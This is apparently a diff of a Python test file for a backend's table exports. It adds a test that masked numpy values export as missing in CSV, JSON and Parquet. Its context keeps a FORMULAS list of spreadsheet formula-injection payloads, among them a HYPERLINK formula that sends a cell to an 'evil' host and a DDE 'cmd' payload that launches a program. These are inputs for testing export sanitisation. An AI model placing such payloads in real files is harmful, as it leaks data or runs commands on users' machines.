@@ -4,13 +4,16 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import math
 from typing import Any
 
+import numpy as np
 import pytest
 
-from backend.kit.exports.table_files import csv_text, table_file
+from backend.kit.exports.table_files import csv_text, long_table_file, table_file
 from backend.kit.format import sayable
+from tests.evaluation_page.test_exports import read_parquet
 
 FORMULAS = [
     '=HYPERLINK("http://evil?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1)", "\t=1+1", "\r=1",
@@ -38,3 +41,22 @@ def test_numbers_and_other_texts_stay_as_they_are(value: Any) -> None:
 
 def test_json_holds_what_was_written() -> None:
     assert b'"=1+1"' in table_file("runs", {"name": "text"}, [("=1+1",)], "json").content
+
+
+def test_what_an_array_masks_is_missing_in_every_format() -> None:
+    first, second = np.ma.MaskedArray([1.5, 0, -2.0], [False, True, False]), np.array([0.25])
+    tables = [[["a", "b", "c"], first], [["d"], second]]
+    files = {
+        as_: b"".join(long_table_file("t", {"name": "text", "n": "float"}, tables, as_).parts)
+        for as_ in ("csv", "json", "parquet")
+    }
+    rows = [{"name": name, "n": n} for name, n in zip("abcd", (1.5, None, -2.0, 0.25), strict=True)]
+    assert cells(files["csv"].decode()) == [
+        ["name", "n"],
+        ["a", "1.5"],
+        ["b", ""],
+        ["c", "-2.0"],
+        ["d", "0.25"],
+    ]
+    assert json.loads(files["json"]) == rows
+    assert read_parquet(files["parquet"]) == rows
